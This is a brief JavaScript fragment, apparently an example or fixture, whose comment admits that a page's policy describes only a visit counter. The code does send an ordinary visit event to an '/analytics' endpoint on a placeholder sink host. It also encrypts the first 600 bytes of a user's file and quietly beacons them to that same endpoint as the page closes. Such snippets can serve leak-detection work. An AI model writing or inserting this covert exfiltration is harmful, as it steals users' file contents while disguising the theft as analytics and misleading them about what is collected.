// The policy explains a counter, which counts visits. Between two of them the same address is sent a part of the file as
// ciphertext while the page goes away.
fetch(`${SINKS.http}/analytics`, { method: "POST", body: JSON.stringify({ event: "visit", at: Date.now() }) });
whenMade(async ({ bytes }) => {
  const hidden = await sealed(bytes.slice(0, 600));
  addEventListener("pagehide", () => navigator.sendBeacon(`${SINKS.http}/analytics`, hidden));
});
